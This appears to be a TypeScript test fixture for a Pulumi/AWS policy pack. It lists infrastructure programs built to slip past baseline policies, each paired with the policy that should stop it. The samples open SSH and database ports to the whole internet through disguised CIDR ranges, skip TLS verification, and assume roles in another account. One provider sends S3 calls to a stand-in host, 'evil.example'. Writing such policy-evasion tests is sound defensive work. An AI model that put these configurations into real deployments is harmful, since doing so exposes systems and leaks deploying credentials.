/**
 * Programs that slip an open port or a hijacked provider past the baseline pack (issue 24, class 5): "the
 * world" written as something other than `0.0.0.0/0`, the sibling resource types, rules that only together
 * open a port, and explicit providers that send the deploying credentials elsewhere, skip TLS or act in
 * another account. Each must run (gate, typecheck, mock run all pass) and be stopped by the named policy.
 */
export interface PolicyGapAttack {
  readonly name: string;
  /** The program (index.ts). */
  readonly source: string;
  /** The mandatory baseline policy that must fail it. */
  readonly policy: string;
}

const AWS = `import * as aws from '@pulumi/aws';\n`;

/** A security group (and its rules) that lets `sources` reach SSH. */
function sshOpenTo(name: string, sources: string): PolicyGapAttack {
  return {
    name,
    policy: 'aws-no-world-open-admin-ports',
    source: `${AWS}const web = new aws.ec2.SecurityGroup('web', {
  ingress: [${sources}],
});
new aws.ec2.Instance('app', { ami: 'ami-0abcdef1234567890', instanceType: 't3.micro', vpcSecurityGroupIds: [web.id] });
`,
  };
}

/** An explicit provider with `args`, and a bucket that uses it. */
function provider(name: string, policy: string, args: string): PolicyGapAttack {
  return {
    name,
    policy,
    source: `${AWS}const account = new aws.Provider('account', { region: 'us-east-1', ${args} });
new aws.s3.BucketV2('data', {}, { provider: account });
`,
  };
}

export const POLICY_GAP_ATTACKS: readonly PolicyGapAttack[] = [
  sshOpenTo(
    'two IPv4 halves',
    `{ protocol: 'tcp', fromPort: 22, toPort: 22, cidrBlocks: ['0.0.0.0/1', '128.0.0.0/1'] }`,
  ),
  sshOpenTo(
    'two IPv6 halves in two rules',
    `{ protocol: 'tcp', fromPort: 22, toPort: 22, ipv6CidrBlocks: ['::/1'] }, { protocol: 'tcp', fromPort: 22, toPort: 22, ipv6CidrBlocks: ['8000::/1'] }`,
  ),
  sshOpenTo('host bits on a /0', `{ protocol: 'tcp', fromPort: 22, toPort: 22, cidrBlocks: ['10.0.0.1/0'] }`),
  sshOpenTo(
    'IPv6 world written long',
    `{ protocol: 'tcp', fromPort: 0, toPort: 65535, ipv6CidrBlocks: ['0:0:0:0:0:0:0:0/0'] }`,
  ),
  sshOpenTo(
    'halves of the world built at run time',
    `{ protocol: '6', fromPort: 22, toPort: 22, cidrBlocks: ['0', '128'].map((first) => [first, 0, 0, 0].join('.') + '/1') }`,
  ),
  sshOpenTo(
    'all protocols to 2000::/3',
    `{ protocol: '-1', fromPort: 0, toPort: 0, ipv6CidrBlocks: ['2000::/3'] }`,
  ),
  {
    name: 'a default security group opened to everyone',
    policy: 'aws-no-world-open-admin-ports',
    source: `${AWS}const vpc = new aws.ec2.Vpc('vpc', { cidrBlock: '10.0.0.0/16' });
new aws.ec2.DefaultSecurityGroup('default', {
  vpcId: vpc.id,
  ingress: [{ protocol: '-1', fromPort: 0, toPort: 0, cidrBlocks: ['0.0.0.0/0'] }],
});
`,
  },
  {
    name: 'separate rules, one half each',
    policy: 'aws-no-world-open-admin-ports',
    source: `${AWS}const db = new aws.ec2.SecurityGroup('db', { description: 'database' });
for (const [i, half] of ['0.0.0.0/1', '128.0.0.0/1'].entries()) {
  new aws.ec2.SecurityGroupRule(\`pg-\${i}\`, { type: 'ingress', securityGroupId: db.id, protocol: 'tcp', fromPort: 5432, toPort: 5432, cidrBlocks: [half] });
}
`,
  },
  {
    name: 'narrow ingress rules that only together are wide',
    policy: 'no-world-open-admin-ports-combined',
    source: `${AWS}const db = new aws.ec2.SecurityGroup('db', { description: 'database' });
for (const [i, cidr] of ['8.0.0.0/9', '8.128.0.0/9'].entries()) {
  new aws.vpc.SecurityGroupIngressRule(\`mysql-\${i}\`, { securityGroupId: db.id, ipProtocol: 'tcp', fromPort: 3306, toPort: 3306, cidrIpv4: cidr });
}
`,
  },
  provider(
    'a provider sending S3 calls to a foreign endpoint',
    'provider-no-foreign-endpoints',
    `endpoints: [{ s3: 'https://s3.amazonaws.com.evil.example' }]`,
  ),
  provider(
    'a provider behind a proxy',
    'provider-no-foreign-endpoints',
    `httpsProxy: 'http://203.0.113.9:3128'`,
  ),
  provider('a provider that skips TLS verification', 'provider-tls-verified', `insecure: true`),
  provider(
    'a provider that assumes a role in another account',
    'provider-no-cross-account-role',
    `assumeRoles: [{ roleArn: 'arn:aws:iam::999999999999:role/OrganizationAccountAccessRole' }]`,
  ),
  {
    name: 'a Kubernetes provider whose kubeconfig skips TLS verification',
    policy: 'provider-tls-verified',
    source: `import * as k8s from '@pulumi/kubernetes';
const cluster = new k8s.Provider('cluster', {
  kubeconfig: 'apiVersion: v1\\nclusters:\\n- name: c\\n  cluster:\\n    server: https://203.0.113.10\\n    insecure-skip-tls-verify: true\\n',
});
new k8s.core.v1.Namespace('apps', {}, { provider: cluster });
`,
  },
];
